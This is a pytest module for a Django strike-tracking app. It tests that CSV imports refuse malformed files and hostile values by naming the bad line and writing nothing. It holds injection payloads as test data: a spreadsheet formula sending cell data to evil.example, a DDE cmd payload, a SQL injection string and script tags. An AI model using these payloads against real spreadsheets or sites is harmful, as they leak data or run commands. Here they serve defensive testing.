"""The CSV import fed hostile values in every column, and malformed files: no server error, a
clear message naming the line, and either every row imported or none."""

import csv
import datetime
import html
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from strikes import csv_import
from strikes.models import ActionDay, CsvImport, CsvImportKind, CsvImportStatus, Dispute

from ..factories import PicketVisitFactory
from .corpus import CORPUS, SCRIPT_TAG, active_content, encoded, shown
from .crawl import snapshot, urlencoded

pytestmark = pytest.mark.django_db

DAYS = CsvImportKind.ACTION_DAYS
DISPUTES = CsvImportKind.DISPUTES
# The kind of value each column holds, beyond text: it gets that part of the corpus too.
COLUMN_KINDS = {
    "date": "date",
    "start": "time",
    "end": "time",
    "hardship_fund_url": "url",
}


def good_row(kind: str, seeded, n: int) -> dict[str, str]:
    day = timezone.localdate() + datetime.timedelta(days=10 + n)
    if kind == DAYS:
        return {"dispute": str(seeded.dispute.pk), "date": day.isoformat(), "kind": "strike"}
    return {
        "title": f"Imported dispute {n}",
        "employer": "Royal Mail",
        "unions": seeded.union.short_name,
        "status": "balloting",
    }


def csv_text(kind: str, rows: list[dict]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, csv_import.COLUMNS[kind], lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def page_text(response) -> str:
    page = re.sub(r"<[^>]+>", " ", response.content.decode(errors="replace"))
    return re.sub(r"\s+", " ", html.unescape(page))


def cases() -> list:
    return list(_cases())


def _cases():
    for kind in (DAYS, DISPUTES):
        for column in csv_import.COLUMNS[kind]:
            values = CORPUS["text"] + CORPUS.get(COLUMN_KINDS.get(column, ""), [])
            for value in values:
                yield pytest.param(kind, column, value, id=f"{kind}-{column}-{shown(value)}")


@pytest.fixture
def tulo_client(client, seeded):
    client.force_login(seeded.tulo)
    return client


def start(client, seeded, kind: str, text: str | bytes):
    url = reverse("strikes_import:start", args=[seeded.clp.slug])
    if isinstance(text, bytes):
        upload = SimpleUploadedFile("hostile.csv", text, content_type="text/csv")
        return client.post(url, {"kind": kind, "text": "", "file": upload})
    body = urlencoded([("kind", kind), ("text", text)])
    return client.post(url, body, content_type="application/x-www-form-urlencoded")


def apply(client, seeded, kind: str, text: str):
    url = reverse("strikes_import:apply", args=[seeded.clp.slug])
    body = urlencoded([("kind", kind), ("text", text)])
    return client.post(url, body, content_type="application/x-www-form-urlencoded")


# Columns kept as text: an accepted value must read back as it was given.
TEXT_COLUMNS = {"note", "title", "employer", "demands", "workplace"}


@pytest.mark.parametrize(("kind", "column", "value"), cases())
def test_a_hostile_value_in_any_column_is_refused_by_line_or_imported_whole(
    tulo_client, seeded, kind, column, value
):
    """Line 2 is good; line 3 has the hostile value. Either the file is refused naming line 3
    and nothing is written, or both rows go in and the value reads back as it was given."""
    rows = [good_row(kind, seeded, 1), good_row(kind, seeded, 2)]
    if isinstance(value, bytes):
        # Bytes that are not UTF-8 can only come in a file.
        text = csv_text(kind, rows).encode().rstrip(b"\n") + value + b"\n"
    else:
        rows[1][column] = value
        text = csv_text(kind, rows)
    before = snapshot()
    days_before = ActionDay.objects.filter(dispute=seeded.dispute).count()

    preview = start(tulo_client, seeded, kind, text)

    assert preview.status_code == 200
    markup = preview.content.decode(errors="replace")
    assert not active_content(markup)
    assert snapshot() == before, "the preview wrote something"
    if 'class="errorlist' in markup:
        # Refused as a whole (not UTF-8, or a NUL): the message is on the field.
        assert ("not UTF-8" in page_text(preview)) == isinstance(value, bytes)
        return
    assert not isinstance(value, bytes)
    if re.search(r'role="alert">\s*<h2 id="preview-heading">', markup):
        assert re.search(r"line 3: ", page_text(preview)), page_text(preview)[:2000]
        assert "line 2: " not in page_text(preview), "the good line was blamed"
        refused = apply(tulo_client, seeded, kind, text)
        assert refused.status_code == 200
        assert "line 3: " in page_text(refused)
        assert snapshot() == before, "a refused file wrote something"
        return
    assert 'id="preview-heading">Ready to import' in markup, page_text(preview)[:2000]
    assert apply(tulo_client, seeded, kind, text).status_code == 302
    if kind == DAYS:
        saved = ActionDay.objects.filter(dispute=seeded.dispute).order_by("-date").first()
        assert ActionDay.objects.filter(dispute=seeded.dispute).count() == days_before + 2
    else:
        saved = Dispute.objects.order_by("-pk").first()
        assert Dispute.objects.count() == 3
    if column in TEXT_COLUMNS and "\ud800" not in value and "\udfff" not in value:
        stored = {
            "note": lambda: saved.note,
            "title": lambda: saved.title,
            "employer": lambda: saved.employer.name,
            "demands": lambda: saved.demands,
            "workplace": lambda: saved.workplaces.get().name,
        }[column]()
        assert stored == value.strip()


MALFORMED = {
    "latin-1 bytes": (b"dispute,date\nCaf\xe9 workers,2026-12-01\n", "not UTF-8"),
    "UTF-16 with its byte order mark": (
        "dispute,date\nCafé,2026-12-01\n".encode("utf-16"),
        "UTF-16",
    ),
    "a NUL in the file": (b"dispute,date\n1,2026-12-01\x00\n", "not plain text"),
    "a spreadsheet file": (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "not plain text"),
    "a line longer than the upload limit": (
        b"dispute,date,note\n1,2026-12-01," + b"x" * (csv_import.MAX_BYTES + 1) + b"\n",
        "the most is",
    ),
    "no header": (b"1,2026-12-01\n2,2026-12-02\n", "line 1: "),
    "a header only": (b"dispute,date\n", "line 1: there are no rows"),
    "a repeated column": (b"dispute,date,date\n1,2026-12-01,2026-12-02\n", "line 1: "),
    "an unknown column": (
        b"dispute,date,<script>alert(1)</script>\n1,2026-12-01,x\n",
        "line 1: unknown column",
    ),
    "more values than columns": (b"dispute,date\n1,2026-12-01,extra,values\n", "line 2: "),
    "an unterminated quote": (b'dispute,date\n"1,2026-12-01\n', "line 2: "),
    "only blank lines": (b"\r\n\r\n   \r\n", "nothing to import"),
    "lone carriage returns": (b"dispute,date\r1,not a date\r", "line 2: "),
    "too many rows": (
        b"dispute,date\n" + b"1,2026-12-01\n" * (csv_import.MAX_ROWS + 1),
        f"the most in one import is {csv_import.MAX_ROWS:,}",
    ),
}


@pytest.mark.parametrize(("data", "message"), MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_file_is_refused_clearly_and_nothing_is_imported(
    tulo_client, seeded, data, message
):
    before = snapshot()

    response = start(tulo_client, seeded, DAYS, data)

    assert response.status_code == 200
    assert not active_content(response.content.decode(errors="replace"))
    assert message in page_text(response)
    assert snapshot() == before


def test_a_byte_order_mark_and_windows_line_ends_still_import(tulo_client, seeded):
    text = csv_text(DAYS, [good_row(DAYS, seeded, 1)]).replace("\n", "\r\n")

    response = start(tulo_client, seeded, DAYS, "\ufeff".encode() + text.encode())

    assert 'id="preview-heading">Ready to import' in response.content.decode()


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click for details")', "+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_imported_as_a_title_is_not_a_formula_in_the_report_csv(
    tulo_client, seeded, formula
):
    row = good_row(DISPUTES, seeded, 1) | {"title": formula}
    text = csv_text(DISPUTES, [row])
    assert apply(tulo_client, seeded, DISPUTES, text).status_code == 302
    imported = Dispute.objects.get(title=formula)
    PicketVisitFactory(clp=seeded.clp, dispute=imported, date=timezone.localdate(), members_count=1)

    report = tulo_client.get(
        reverse("pickets:report_csv", args=[seeded.clp.slug]), {"period": "this_month"}
    )

    cells = [cell for line in csv.reader(io.StringIO(report.content.decode())) for cell in line]
    assert "'" + formula in cells
    assert formula not in cells


HOSTILE_CONFIRMS = [
    ("kind", "' OR 1=1 --"),
    ("kind", "<script>alert(1)</script>"),
    ("text", "dispute,date\n1,9999-12-31\n"),
    ("text", "nul\x00"),
    ("text", "lone \ud800 surrogate"),
    ("text", "x" * (csv_import.MAX_BYTES + 1)),
]


@pytest.mark.parametrize(("field", "value"), HOSTILE_CONFIRMS, ids=lambda v: shown(v)[:30])
def test_a_tampered_confirmation_writes_nothing(tulo_client, seeded, field, value):
    """The confirm button posts the previewed file back; what comes back is checked again."""
    fields = {"kind": DAYS, "text": csv_text(DAYS, [good_row(DAYS, seeded, 1)])} | {field: value}
    before = snapshot()

    url = reverse("strikes_import:apply", args=[seeded.clp.slug])
    body = "&".join(f"{k}={''.join(f'%{b:02X}' for b in encoded(v))}" for k, v in fields.items())
    response = tulo_client.post(url, body, content_type="application/x-www-form-urlencoded")

    # Django refuses a body over DATA_UPLOAD_MAX_MEMORY_SIZE with a 400 before the view.
    assert response.status_code in (200, 302, 400)
    assert snapshot() == before
    if response.status_code == 400:
        return
    page = tulo_client.get(response["Location"]) if response.status_code == 302 else response
    assert not active_content(page.content.decode())
    assert 'role="alert"' in page.content.decode() or "message error" in page.content.decode()


def test_a_large_file_with_one_hostile_row_fails_as_a_job_naming_its_line(tulo_client, seeded):
    """Over BACKGROUND_ROWS rows the check runs as a job; it still names the line and writes
    nothing."""
    rows = [good_row(DAYS, seeded, n % 600) for n in range(csv_import.BACKGROUND_ROWS + 1)]
    rows[-1]["note"] = SCRIPT_TAG * 20
    text = csv_text(DAYS, rows)
    before = (ActionDay.objects.count(), Dispute.objects.count())

    response = start(tulo_client, seeded, DAYS, text)
    job = CsvImport.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[1]))
    csv_import.import_job_check(job_id=job.pk)
    page = tulo_client.get(response["Location"])

    job.refresh_from_db()
    assert job.status == CsvImportStatus.INVALID
    assert f"line {len(rows) + 1}" in page_text(page)
    assert not active_content(page.content.decode())
    assert (ActionDay.objects.count(), Dispute.objects.count()) == before
